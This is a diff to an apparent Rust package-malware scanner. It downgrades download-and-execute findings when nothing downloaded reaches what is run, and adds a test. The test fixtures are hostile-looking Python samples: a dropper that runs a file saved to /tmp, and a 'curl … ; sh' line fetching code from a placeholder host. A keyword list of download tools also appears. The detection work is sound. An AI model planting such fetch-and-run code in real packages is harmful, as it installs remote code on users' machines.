@@ -228,23 +228,53 @@ fn analyze_at(
         out = lexical(rules, code.as_bytes(), role);
     }
     if python && depth < MAX_UNFOLD {
-        out.extend(hidden_code(rules, path, text, role, depth, &out));
+        let analysis = super::python::analyse(&String::from_utf8_lossy(text));
+        if analysis.parsed() && analysis.flows.is_empty() {
+            no_flow_no_download_exec(&mut out);
+        }
+        out.extend(v2_findings(rules, path, text, role, depth, &out, analysis));
     }
     out
 }
 
-/// Findings for code an executor runs from folded data (scanner v2's parse
-/// and resolve passes, `super::python`), and for what that code does.
-fn hidden_code(
+/// A file that parses, fetches with Python's own clients and starts a
+/// program, but runs nothing it fetched (no flow), is a build script or a
+/// tool, not a dropper: the co-occurrence finding drops to low. A download
+/// spelled in a command line (curl, wget, PowerShell) is not seen by the
+/// flows pass and keeps its severity.
+fn no_flow_no_download_exec(out: &mut [MemberFinding]) {
+    for f in out.iter_mut().filter(|f| {
+        f.rule == RuleId::DownloadExec
+            && f.message.starts_with("downloads a file and runs a program")
+    }) {
+        let shell = f.evidence.iter().any(|(label, value)| {
+            label == "download"
+                && ["wget", "curl", "Invoke-WebRequest", "DownloadFile"]
+                    .iter()
+                    .any(|w| value.contains(w))
+        });
+        if !shell && f.severity > Severity::Low {
+            f.severity = Severity::Low;
+            f.confidence = Confidence::Low;
+            f.message
+                .push_str(", but nothing it downloads reaches what it runs");
+        }
+    }
+}
+
+/// Findings of scanner v2's passes (`super::python`): code an executor runs
+/// from folded data, what that code does, and network data that reaches
+/// something that runs it.
+fn v2_findings(
     rules: &Rules,
     path: &str,
     text: &[u8],
     role: Role,
     depth: usize,
     already: &[MemberFinding],
+    analysis: super::python::Analysis,
 ) -> Vec<MemberFinding> {
     let mut out = Vec::new();
-    let analysis = super::python::analyse(&String::from_utf8_lossy(text));
     for h in analysis.hidden {
         let how = h.techniques.join(" + ");
         let shown: String = h
@@ -851,6 +881,31 @@ mod tests {
         assert_eq!(role("evil.pth", &[]), Role::Startup);
         assert_eq!(role("hook.py", &["hook".into()]), Role::Startup);
         assert_eq!(role("pkg/deep/mod.py", &[]), Role::Module);
+    }
+
+    #[test]
+    fn a_download_is_judged_by_whether_what_came_is_run() {
+        let build = "import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve(URL, 'openblas.tar.gz')\nsubprocess.check_call(['tar', 'xzf', 'openblas.tar.gz'])\n";
+        let got = rules_of("p/setup.py", build, &[]);
+        assert!(
+            got.iter()
+                .all(|(r, s)| *r != RuleId::DownloadExec || *s <= Severity::Low),
+            "{got:?}"
+        );
+        let dropper = "import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve(URL, '/tmp/update')\nsubprocess.Popen(['/tmp/update'])\n";
+        let got = rules_of("p/setup.py", dropper, &[]);
+        assert!(
+            got.contains(&(RuleId::DownloadExec, Severity::Critical)),
+            "{got:?}"
+        );
+        // Spelled in a command line, the flows pass cannot see it: it stays.
+        let shell = "import os\nfrom urllib.request import urlopen\nurlopen(PING)\nos.system('curl -s https://x.example/a -o /tmp/a; sh /tmp/a')\n";
+        let got = rules_of("p/setup.py", shell, &[]);
+        assert!(
+            got.iter()
+                .any(|(r, s)| *r == RuleId::DownloadExec && *s >= Severity::High),
+            "{got:?}"
+        );
     }
 
     #[test]
